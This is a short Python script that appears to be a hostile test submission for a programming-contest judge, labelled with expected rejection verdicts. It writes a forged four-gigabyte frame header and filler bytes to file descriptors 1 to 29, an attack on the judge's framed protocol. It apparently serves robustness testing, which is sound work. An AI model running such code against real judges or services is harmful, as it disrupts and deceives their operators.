# task: gate
# verdict: RTE WA OLE TLE
# defence: frames in turn
"""Announces a frame of four gigabytes and sends the beginning of it."""

import os

for number in range(1, 30):
    try:
        os.write(number, b"\xff\xff\xff\xff" + b"x" * 10_000)
    except OSError:
        continue
os._exit(0)
